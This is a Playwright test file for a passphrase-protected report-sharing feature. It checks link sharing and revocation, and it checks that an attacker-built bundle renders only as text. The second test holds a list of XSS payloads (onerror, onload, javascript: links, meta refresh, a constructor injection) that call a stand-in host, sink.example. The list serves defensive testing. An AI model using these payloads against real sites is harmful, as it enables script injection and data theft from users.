// A report behind a link, in two profiles: what one shares the other opens, with nothing else loaded, until it is revoked. And a bundle
// that an attacker made: it is text, and nothing leaves the page.
import { expect, type Page } from '@playwright/test';
import { encodeBundle } from '#core/share/bundle-bytes.ts';
import type { Bundle } from '#core/share/bundle.ts';
import { minimiseEdition } from '#core/share/minimise-edition.ts';
import { wholeLink } from '#core/share/whole-link.ts';
import { chart, hashes, madeEdition, shownOf, tableOf } from '../unit/made-edition.ts';
import { expectClean } from './clean.ts';
import { openWorkspace, patient, test, type WithWeir } from './workspace.ts';

test.use({ actionTimeout: 20_000 });

const PASSPHRASE = 'eight letters';

function requestsOf(page: Page): string[] {
	const asked: string[] = [];
	page.on('request', (request) => asked.push(request.url()));
	return asked;
}

test('a report is shared, read elsewhere with its passphrase, and gone when it is revoked', async ({
	page,
	virgin: reader
}) => {
	await openWorkspace(page);
	const shared = await page.evaluate(
		async ({ edition, passphrase }) => {
			const { weir } = globalThis as never as WithWeir;
			const words = await weir.recoveryWords();
			const on = await weir.turnOnSync({
				passphrase: 'a sentence of mine',
				words: words.ok ? words.value.join(' ') : '',
				device: 'Laptop'
			});
			if (!on.ok) throw new Error(on.error.kind);
			const made = await weir.shareEdition(edition, { passphrase });
			if (!made.ok) throw new Error(JSON.stringify(made.error));
			return made.value;
		},
		{ edition: madeEdition, passphrase: PASSPHRASE }
	);
	const link = new URL(shared.link, page.url()).href;
	const asked = requestsOf(reader);

	await reader.goto(link.slice(0, -3));
	await patient(reader.getByRole('alert')).toContainText('This link is incomplete');
	await reader.goto('about:blank');
	expect(asked.filter((url) => url.includes('/api/'))).toEqual([]);

	await reader.goto(link);
	const passphrase = reader.getByLabel('Passphrase');
	await patient(passphrase).toBeVisible();
	expect(new URL(reader.url()).hash).toBe('');
	await passphrase.fill('another one');
	await passphrase.press('Enter');
	await patient(reader.getByRole('alert')).toContainText('There is nothing to open here');
	await expectClean(reader, 'a wrong passphrase');
	await reader.getByLabel('Passphrase').fill(PASSPHRASE);
	await reader.getByRole('button', { name: 'Open the report' }).click();
	await patient(reader.getByRole('heading', { name: 'Rivers' })).toBeVisible();
	await expect(reader.getByRole('cell', { name: 'Bergen' })).toBeVisible();
	await reader.getByText('Where the numbers come from').click();
	await expect(reader.getByText(shared.fingerprint)).toBeVisible();
	await expectClean(reader, 'a shared report');
	await reader.setViewportSize({ width: 390, height: 844 });
	// A chart is drawn anew once it knows its width.
	await expect.poll(() => reader.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
	// Neither an engine nor a workspace: only the page's own files, and the share.
	expect(asked.filter((url) => /duckdb|\.wasm|engine/.test(url))).toEqual([]);
	expect(await reader.evaluate(() => indexedDB.databases())).toEqual([]);

	const ended = await page.evaluate(async (share) => {
		const { weir } = globalThis as never as WithWeir;
		const shares = await weir.shares();
		const revoked = await weir.revokeShare(share);
		return [shares.ok && shares.value.map(({ views, wrongTries }) => [views, wrongTries]), revoked.ok];
	}, shared.share);
	expect(ended).toEqual([[[1, 1]], true]);
	await reader.goto('about:blank');
	await reader.goto(link);
	await reader.getByLabel('Passphrase').fill(PASSPHRASE);
	await reader.getByLabel('Passphrase').press('Enter');
	await patient(reader.getByRole('alert')).toContainText('There is nothing to open here');
});

/** Each would ask this address for something, were it ever read as markup. */
const SINK = 'https://sink.example';
const payload = [
	`<img src="${SINK}/1" onerror="fetch('${SINK}/2')">`,
	`<script>location='${SINK}/3'</script>`,
	`<svg onload="fetch('${SINK}/4')"><image href="${SINK}/5"/></svg>`,
	`<iframe src="${SINK}/6"></iframe>`,
	`<object data="${SINK}/7"></object>`,
	`<embed src="${SINK}/8">`,
	`<video src="${SINK}/9" autoplay></video>`,
	`<audio src="${SINK}/10"></audio>`,
	`<link rel="stylesheet" href="${SINK}/11">`,
	`<link rel="prefetch" href="${SINK}/12">`,
	`<style>@import "${SINK}/13"; body { background: url(${SINK}/14) }</style>`,
	`<meta http-equiv="refresh" content="0;url=${SINK}/15">`,
	`<base href="${SINK}/">`,
	`<form action="${SINK}/16"><input autofocus onfocus="this.form.submit()"></form>`,
	`<details open ontoggle="fetch('${SINK}/17')">`,
	`<a href="javascript:fetch('${SINK}/18')" ping="${SINK}">x</a>`,
	`![x](${SINK}/19) [x](javascript:alert(1))`,
	`\u202e"'\`}{{constructor.constructor('fetch("${SINK}")')()}}`
];

function hostile(): Bundle {
	const all = payload.join('\n');
	const cells = [...payload];
	const [source] = minimiseEdition(madeEdition, () => hashes).sources;
	const named = { title: all, subtitle: all, caption: all, xLabel: all, yLabel: all, unit: '<b>' };
	const edition = {
		...madeEdition,
		title: all,
		description: all,
		blocks: [
			...payload.map((text) => ({
				block: {
					kind: 'prose' as const,
					node: { kind: 'paragraph' as const, children: [{ kind: 'text' as const, text }] },
					values: [],
					place: chart.place
				},
				values: []
			})),
			{
				block: {
					kind: 'table' as const,
					...{ from: '', columns: [{ column: all, label: all, format: null }], order: [], limit: 100 },
					...{ title: all, span: 12 as const, place: chart.place }
				},
				shown: shownOf(tableOf({ name: all, type: 'text', values: cells }), [])
			},
			{
				block: {
					...chart,
					...named,
					type: 'bar' as const,
					annotations: [{ ...chart.annotations[0], text: all } as never]
				},
				shown: shownOf(
					tableOf(
						{ name: 'x', type: 'text', values: cells },
						{ name: 'y', type: 'number', values: cells.map((_, at) => at) }
					),
					[]
				)
			}
		]
	};
	return { ...minimiseEdition(edition, () => hashes), sources: source ? [{ ...source, name: all }] : [] };
}

test('a bundle that an attacker made is text: nothing leaves the page, and it stays where it is', async ({
	virgin: reader
}) => {
	const asked = requestsOf(reader);
	const errors: string[] = [];
	reader.on('dialog', (dialog) => {
		errors.push(dialog.message());
		void dialog.dismiss();
	});
	await reader.goto(wholeLink(encodeBundle(hostile())));
	await patient(reader.getByText(payload[0] ?? '', { exact: false }).first()).toBeVisible();
	await reader.getByText('Where the numbers come from').click();
	await reader.waitForTimeout(500);
	const { origin, pathname, hash } = new URL(reader.url());
	expect([pathname, hash]).toEqual(['/s', '']);
	expect(
		asked.filter((url) => !url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:'))
	).toEqual([]);
	expect(errors).toEqual([]);
	expect(await reader.locator('main :is(script, iframe, object, embed, form, base, video, img)').count()).toBe(0);
});
